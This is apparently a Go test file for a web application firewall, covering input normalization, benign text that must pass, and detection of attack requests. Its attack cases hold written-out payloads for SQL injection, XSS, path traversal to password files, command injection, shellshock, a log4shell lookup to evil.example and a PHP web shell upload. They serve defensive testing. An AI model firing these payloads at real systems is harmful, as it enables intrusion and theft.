package waf

import (
	"bytes"
	"errors"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"testing/iotest"

	proxyv1 "github.com/proxy-manager/proxy-manager/pkg/gen/proxy/v1"
)

func allRulesOn() *proxyv1.WafRules {
	return &proxyv1.WafRules{SqlInjection: true, Xss: true, PathTraversal: true, SuspiciousHeaders: true, CommandInjection: true}
}

func mustNew(t testing.TB, cfg *proxyv1.Waf) *Policy {
	t.Helper()
	p, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestNormalize(t *testing.T) {
	tests := []struct {
		desc, in string
		plus     bool
		want     string
	}{
		{"percent", "%2e%2e%2f", false, "../"},
		{"double encoding", "%252e%252e%255c", false, `..\`},
		{"triple encoding", "%25252e", false, "."},
		{"IIS %u", "%u002e%u002E/", false, "../"},
		{"overlong 2 bytes", "%c0%ae%c0%af", false, "./"},
		{"overlong 3 and 4 bytes", "%e0%80%af%f0%80%80%ae", false, "/."},
		{"stray C0", "%c0%2e%c0%2e", false, ".."},
		{"plus is a space in a query", "a+b%2Bc", true, "a b+c"},
		{"plus kept elsewhere", "a+b", false, "a+b"},
		{"HTML entities", "&lt;script&gt;&#x61;&#108;", false, "<script>al"},
		{"entities then percent", "&lt;%73cript", false, "<script"},
		{"backslash escapes", `\u003cimg\x20src`, false, "<img src"},
		{"fullwidth", "＜ＳＣＲＩＰＴ＞", false, "<script>"},
		{"division slash", "..\u2215etc", false, "../etc"},
		{"case", "SeLeCt", false, "select"},
		{"NUL removed", "ab%00cd\x00e", false, "abcde"},
		{"malformed escapes kept", "100%zz%4", false, "100%zz%4"},
		{"plain text unchanged", "hello world", false, "hello world"},
		{"invalid UTF-8 kept", "a\xffb", false, "a\xffb"},
	}
	for _, tc := range tests {
		t.Run(tc.desc, func(t *testing.T) {
			if got := Normalize(tc.in, tc.plus); got != tc.want {
				t.Errorf("Normalize(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// Text that looks like an attack to naive patterns (the seeds' regexes), and must pass.
func TestBenignValues(t *testing.T) {
	p := mustNew(t, &proxyv1.Waf{Enabled: true, Rules: allRulesOn()})
	for _, v := range []string{
		"I used 'union' in the sense of a labour union, not the SQL thing",
		"Could you select the best option from the list and tell me why?",
		"Please insert the coin in the slot and select a drink -- vending machine fixed.",
		"He said: 'I'll be there at 5' -- he wasn't.",
		"DEAR FINN,--I think it would do; copy should reach us second post",
		"h2<h1", "I <3 you", "O'Connor", "1950's dresses", "50/50 chance",
		"see ../docs for the details", "../Essentials.jar", "/plugins/Essentials/config.yml",
		"cat toys", "echo in the mirror", "zsh is the best!", "nc 8000 controller", "exec chair",
		"A & B & C are all required; D is optional.", "mp_restartgame 1; sv_cheats 0",
		"JavaScript: Basics of JavaScript Language", "javascript tutorial for beginners",
		"please confirm (by friday)", "the system (v2) is down", "drop shipping", "from dusk till dawn",
		"Qw3rty!@#$%^", "S3cur3--P@ss", "x'Y\"z;0k!", "https://example.com/blog/why-go--part-2?utm_source=hn",
		"Use the /home command to go back; /sethome to set it.", "order by phone",
		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
		"<A HREF=\"/PATH1/PATH2\">FOO</A>", "Use the <form> and <input> tags, or <video> for clips",
		"Home | Find a store | Contact", "Tom && more friends", "rock|pop|type beat", "Happy birthday @Luna!!! 🎂🎉", "Ümlaut-Pässwört-42",
	} {
		for _, form := range []bool{false, true} {
			var r *http.Request
			if form {
				r = httptest.NewRequest(http.MethodPost, "/post", strings.NewReader(url.Values{"message": {v}}.Encode()))
				r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			} else {
				r = httptest.NewRequest(http.MethodGet, "/search?q="+url.QueryEscape(v), nil)
			}
			if m := p.Inspect(r); m.Found() {
				t.Errorf("%q (form %v): %s %q at %s", v, form, m.Rule, m.Pattern, m.Where())
			}
		}
	}
}

func TestAttacks(t *testing.T) {
	p := mustNew(t, &proxyv1.Waf{Enabled: true, Rules: allRulesOn()})
	get := func(target string) *http.Request { return httptest.NewRequest(http.MethodGet, target, nil) }
	withHeader := func(k, v string) *http.Request {
		r := get("/")
		r.Header.Set(k, v)
		return r
	}
	body := func(ct, b string) *http.Request {
		r := httptest.NewRequest(http.MethodPost, "/api", strings.NewReader(b))
		r.Header.Set("Content-Type", ct)
		return r
	}
	q := url.QueryEscape
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	fw, _ := mw.CreateFormFile("upload", "shell.php")
	fw.Write([]byte("<?php system($_GET['c']); ?>"))
	mw.Close()
	tests := []struct {
		desc string
		r    *http.Request
		rule Rule
		loc  Location
	}{
		{"sqli tautology", get("/?id=" + q("1' or '1'='1")), SQLInjection, LocQuery},
		{"sqli union", get("/?id=" + q("-1 UNION SELECT username, password FROM users")), SQLInjection, LocQuery},
		{"sqli fragment after a number", get("/?id=" + q(" or 1=1 --")), SQLInjection, LocQuery},
		{"sqli time delay", get("/?id=" + q(")) waitfor delay '0:0:20' --")), SQLInjection, LocQuery},
		{"sqli in the path", get("/user/1%20union%20select%201,2,3--"), SQLInjection, LocPath},
		{"sqli in a cookie", withHeader("Cookie", "a=b; session=admin'--"), SQLInjection, LocCookie},
		{"sqli in a JSON field", body("application/json", `{"user":{"name":"x' OR 1=1 -- "}}`), SQLInjection, LocBody},
		{"nosql operator", body("application/json", `{"user":{"$ne":null}}`), SQLInjection, LocBodyName},
		{"ldap filter", get("/?u=" + q("*)(uid=*))(|(uid=*")), SQLInjection, LocQuery},
		{"xss script tag", get("/?q=" + q("<script>alert(1)</script>")), XSS, LocQuery},
		{"xss entities", get("/?q=" + q("&lt;img src=x onerror=alert(1)&gt;")), XSS, LocQuery},
		{"xss fullwidth", get("/?q=" + q("＜script＞alert(1)＜/script＞")), XSS, LocQuery},
		{"xss unknown event", get("/?q=" + q(`"><x onanything=1>`)), XSS, LocQuery},
		{"xss without tags", get("/?q=" + q("top['al'+'ert'](1)")), XSS, LocQuery},
		{"xss in the Referer", withHeader("Referer", `"><svg/onload=alert(1)>`), XSS, LocHeader},
		{"traversal", get("/?file=" + q("../../../../etc/passwd")), PathTraversal, LocQuery},
		{"traversal overlong", get("/?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"), PathTraversal, LocQuery},
		{"traversal windows", get("/?file=" + q(`..\..\windows\win.ini`)), PathTraversal, LocQuery},
		{"traversal in the path", get("/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow"), PathTraversal, LocPath},
		{"hidden file in the path", get("/.git/config"), PathTraversal, LocPath},
		{"stream wrapper", get("/?page=" + q("php://filter/resource=index.php")), PathTraversal, LocQuery},
		{"cloud metadata", get("/?url=" + q("http://169.254.169.254/latest/meta-data/")), PathTraversal, LocQuery},
		{"command after a separator", get("/?host=" + q("127.0.0.1; cat /etc/passwd")), PathTraversal, LocQuery},
		{"command substitution", get("/?host=" + q("$(whoami)")), CommandInjection, LocQuery},
		{"command with quoting", get("/?host=" + q(";w'h'o'am'i")), CommandInjection, LocQuery},
		{"command with IFS", get("/?host=" + q(";cat${IFS}/etc/hostname")), CommandInjection, LocQuery},
		{"shellshock", withHeader("User-Agent", "() { :; }; /bin/bash -c 'id'"), CommandInjection, LocHeader},
		{"log4shell", withHeader("X-Api-Version", "${jndi:ldap://evil.example/a}"), CommandInjection, LocHeader},
		{"log4shell nested", get("/?x=" + q("${${lower:j}ndi:ldap://x}")), CommandInjection, LocQuery},
		{"php code", body("application/x-www-form-urlencoded", "code="+q("<?php system('id'); ?>")), CommandInjection, LocBody},
		{"php serialized object", get("/?d=" + q(`O:8:"stdClass":1:{s:1:"a";i:2;}`)), CommandInjection, LocQuery},
		{"template injection", get("/?name=" + q("{{7*7}}")), CommandInjection, LocQuery},
		{"java gadget", body("application/json", `{"x":"java.lang.Runtime"}`), CommandInjection, LocBody},
		{"prototype pollution", get("/?__proto__[admin]=1"), CommandInjection, LocQueryName},
		{"script upload", body(mw.FormDataContentType(), mp.String()), CommandInjection, LocFileName},
		{"script file name header", withHeader("X-Filename", "shell. php"), CommandInjection, LocHeader},
		{"scanner", withHeader("User-Agent", "sqlmap/1.7.4#stable (https://sqlmap.org)"), SuspiciousHeaders, LocHeader},
		{"response splitting", get("/?lang=" + q("en\r\nSet-Cookie: admin=1")), SuspiciousHeaders, LocQuery},
		{"smuggled request line", get("/?x=" + q("GET http://evil.example HTTP/1.1")), SuspiciousHeaders, LocQuery},
	}
	for _, tc := range tests {
		t.Run(tc.desc, func(t *testing.T) {
			m := p.Inspect(tc.r)
			if !m.Found() || m.Rule != tc.rule || m.Location != tc.loc {
				t.Errorf("match %+v, want rule %s at %s", m, tc.rule, tc.loc)
			}
		})
	}
}

func TestRulesOff(t *testing.T) {
	p := mustNew(t, &proxyv1.Waf{Enabled: true, Rules: &proxyv1.WafRules{Xss: true}})
	if m := p.Inspect(httptest.NewRequest(http.MethodGet, "/?id="+url.QueryEscape("1' or '1'='1"), nil)); m.Found() {
		t.Errorf("sql_injection is off, got %+v", m)
	}
	var nilPolicy *Policy
	if m := nilPolicy.Inspect(httptest.NewRequest(http.MethodGet, "/?q=<script>", nil)); m.Found() || nilPolicy.Block() {
		t.Errorf("a nil policy matched %+v", m)
	}
	off, err := New(&proxyv1.Waf{Enabled: false, Rules: allRulesOn()})
	if off != nil || err != nil {
		t.Errorf("disabled: %v, %v", off, err)
	}
}

func TestNewErrors(t *testing.T) {
	for _, cfg := range []*proxyv1.Waf{
		{Enabled: true, Mode: "deny"},
		{Enabled: true, MaxRequestSize: -1},
		{Enabled: true, Exclusions: []*proxyv1.WafExclusion{{Path: "/a/*/b"}}},
		{Enabled: true, Exclusions: []*proxyv1.WafExclusion{{Path: "/a", Rules: []string{"sqli"}}}},
	} {
		if _, err := New(cfg); err == nil {
			t.Errorf("New(%v): no error", cfg)
		}
	}
}

func TestHeaderBudget(t *testing.T) {
	p := mustNew(t, &proxyv1.Waf{Enabled: true, Rules: allRulesOn(), MaxHeaderSize: 64})
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	r.Header.Set("X-Padding", strings.Repeat("a", 100))
	r.Header.Set("X-Attack", "<script>alert(1)</script>")
	// Header order is random: the attack is seen only when it comes first, within 64 bytes.
	for range 20 {
		if m := p.Inspect(r); m.Found() && m.Name != "X-Attack" {
			t.Fatalf("match %+v", m)
		}
	}
}

// The body the WAF read is given back: same bytes, then the rest, then the original error.
func TestBodyReplay(t *testing.T) {
	p := mustNew(t, &proxyv1.Waf{Enabled: true, Rules: allRulesOn(), MaxRequestSize: 16})
	r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader(`{"a":"hello world","b":"<script>"}`))
	r.Header.Set("Content-Type", "application/json")
	if m := p.Inspect(r); m.Found() {
		t.Errorf("the attack is past the first 16 bytes, got %+v", m)
	}
	got, err := io.ReadAll(r.Body)
	if err != nil || string(got) != `{"a":"hello world","b":"<script>"}` {
		t.Errorf("body %q, %v", got, err)
	}

	broken := errors.New("client went away")
	r = httptest.NewRequest(http.MethodPost, "/", nil)
	r.Body = io.NopCloser(io.MultiReader(strings.NewReader("a=b"), iotest.ErrReader(broken)))
	r.ContentLength = -1
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	p.Inspect(r)
	got, err = io.ReadAll(r.Body)
	if string(got) != "a=b" || !errors.Is(err, broken) {
		t.Errorf("body %q, error %v, want %q then %v", got, err, "a=b", broken)
	}
}
